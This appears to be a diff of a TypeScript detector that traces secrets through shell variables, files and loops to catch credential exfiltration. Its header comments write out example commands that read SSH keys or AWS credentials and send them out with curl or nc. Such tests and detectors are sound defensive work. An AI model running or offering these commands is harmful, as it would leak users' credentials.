@@ -1,16 +1,13 @@
-// Secrets that travel within one command line through a variable, a file or a loop before they reach
-// a network sender: `K=$(cat ~/.ssh/id_rsa); curl -d "$K" …`, `read -r K < ~/.aws/credentials; nc h 1
-// <<< "$K"`, `cp ~/.ssh/id_rsa /tmp/k && curl -F f=@/tmp/k …`, `tar czf /tmp/a.tgz ~/.ssh; curl -T
-// /tmp/a.tgz …`, `while read l; do curl -d "$l" …; done < ~/.ssh/id_rsa`, `for f in ~/.ssh/*; do nc h
-// 1 < $f; done`. One pass over the segments in execution order keeps three sets:
-//   - variables holding a secret (assigned from a `$(…)` that reads one, read from a secret input,
-//     a loop over secret content, or copied from such a variable);
-//   - variables naming a credential file (`F=~/.ssh/id_rsa`, `for f in ~/.ssh/*`);
-//   - files written from a secret (a redirect, a copy, an archive, tee, an encoder's -o).
-// What a segment reads through them is handed to the exfiltration rules, which decide whether it
-// is sent. The secret sources are exfiltration.ts's (a credential printer or a secret-named variable
-// used in `$(…)` stays an authentication value there, and so it does here). Lexical and
-// flow-insensitive within loops: a later assignment does not taint an earlier use on the next round.
+// Secrets that travel within one command line before they reach a network sender: through a
+// variable (`K=$(cat ~/.ssh/id_rsa); curl -d "$K" …`, `read -r K < ~/.aws/credentials`), a file
+// written earlier (`cp ~/.ssh/id_rsa /tmp/k && curl -F f=@/tmp/k …`), a loop (`while read l; do
+// …; done < secret`, `for f in ~/.ssh/*`), a descriptor `exec` left open, or a function's
+// arguments. One pass over the segments in execution order (a function body again at each call)
+// keeps the variables holding a secret, the variables naming a credential file, and the files
+// written from a secret (tainted-files.ts); what a segment reads through them is handed to the
+// exfiltration rules, which decide whether it is sent. The secret sources are exfiltration.ts's
+// (a credential printer in `$(…)` stays an authentication value there, and so it does here).
+// Lexical, and flow-insensitive around loops: a later assignment does not reach an earlier use.
 
 import type { CommandModel, FunctionDefinition, LoopVariable, SimpleCommand } from './command-model.js';
 import { Descriptors, isExecRedirect } from './descriptors.js';
@@ -28,8 +25,8 @@ import {
 import { Feeders } from './feeders.js';
 import { authenticationFiles, CLOUD_CLIS, cloudUpload, fileCandidates } from './network-files.js';
 import { isNullSink } from './paths.js';
-import { NO_CONTENT } from './programs.js';
-import { READERS, readTargets } from './read-builtins.js';
+import { isInterpreter, NO_CONTENT } from './programs.js';
+import { LISTERS, READERS, readTargets } from './read-builtins.js';
 import { LEADING_REF, TaintedFiles } from './tainted-files.js';
 import { FILE_WRITERS, type WrittenFile, writtenFiles } from './written-files.js';
 
@@ -46,8 +43,6 @@ export interface SecretTrail {
 const NONE: readonly Flow[] = Object.freeze([]);
 const VARIABLE_REF = /\$\{?[#!]?([A-Za-z_][A-Za-z0-9_]*|[0-9@*])/g;
 const DEV_SOCKET = /^\/dev\/(?:tcp|udp)\//;
-/** Programs that print file names (what `read f` then takes as a path). */
-const LISTERS: ReadonlySet<string> = new Set(['ls', 'find', 'fd', 'echo', 'printf', 'realpath', 'readlink']);
 /** Function calls walk at most this many body segments again, in all. */
 const MAX_CALL_SEGMENTS = 2000;
 /** A reason names at most this much of a secret's path through the command. */
@@ -75,14 +70,24 @@ function fileOf(candidate: string): string {
   return candidate.startsWith('@') || candidate.startsWith('<') ? candidate.slice(1) : candidate;
 }
 
-/** Whether a model can carry a secret through a variable, a file or a loop at all (a cheap test). */
+/**
+ * Whether a secret can reach a sender through a variable, a file or a loop at all (a cheap test):
+ * something sends (a network program, a cloud CLI, an interpreter, a `/dev/tcp` redirect) and
+ * something keeps a value (an assignment, read, a loop, a function, a file write, exec).
+ */
 function mayTrail(model: CommandModel): boolean {
-  if (model.loop_variables !== undefined || model.functions !== undefined) return true;
+  let sends = false;
+  let keeps = model.loop_variables !== undefined || model.functions !== undefined;
   for (const s of model.segments) {
-    if (s.assignments.length > 0 || READERS.has(s.program) || FILE_WRITERS.has(s.program) || s.program === 'exec')
-      return true;
-    if (s.program === 'printf' && s.argv[1] === '-v') return true;
-    for (const r of s.redirects) if (r.is_write) return true;
+    const p = s.program;
+    sends ||= NETWORK_PROGRAMS.has(p) || CLOUD_CLIS.has(p) || isInterpreter(p);
+    keeps ||= s.assignments.length > 0 || READERS.has(p) || FILE_WRITERS.has(p) || p === 'exec';
+    keeps ||= p === 'printf' && s.argv[1] === '-v';
+    for (const r of s.redirects) {
+      keeps ||= r.is_write;
+      sends ||= DEV_SOCKET.test(r.target);
+    }
+    if (sends && keeps) return true;
   }
   return false;
 }
@@ -307,7 +312,7 @@ class Trail implements SecretTrail {
   #reads(i: number, seg: SimpleCommand): void {
     const redirects = redirectsOf(this.#segs, i);
     const piped = seg.pipeline !== null && seg.pipeline.index > 0;
-    const stdin: Flow[] = this.#fds.reads({ ...seg, redirects }, piped);
+    const stdin: Flow[] = this.#fds.empty ? [] : this.#fds.reads({ ...seg, redirects }, piped);
     for (const r of redirects) {
       if (r.op === '<' || r.op === '<>') {
         const f = this.#fileIn(r.target, false);
@@ -371,12 +376,14 @@ class Trail implements SecretTrail {
       targets.push({ path: r.target, tree: false, replaces: r.op !== '>>' && r.op !== '&>>', read: false });
     }
     const piped = seg.pipeline !== null && seg.pipeline.index < seg.pipeline.length - 1;
-    for (const path of this.#fds.writes({ ...seg, redirects }, piped))
-      targets.push({ path, tree: false, replaces: false, read: false });
+    if (!this.#fds.empty)
+      for (const path of this.#fds.writes({ ...seg, redirects }, piped))
+        targets.push({ path, tree: false, replaces: false, read: false });
     if (targets.length === 0) return;
     // (a redirect of a whole pipeline sits on every stage: only the first secret is looked for)
     const up = this.#feeders.first(i, (j) => this.#directOf(j).length > 0);
     const first = this.#directOf(i)[0] ?? (up === undefined ? undefined : this.#directOf(up)[0]);
+    if (first === undefined && this.#files.size === 0) return;
     for (const t of targets) {
       const what = first === undefined ? null : `${label(first)} written to ${quote(t.path)}`;
       this.#files.write(t.path, what, t.tree, t.replaces, t.read);
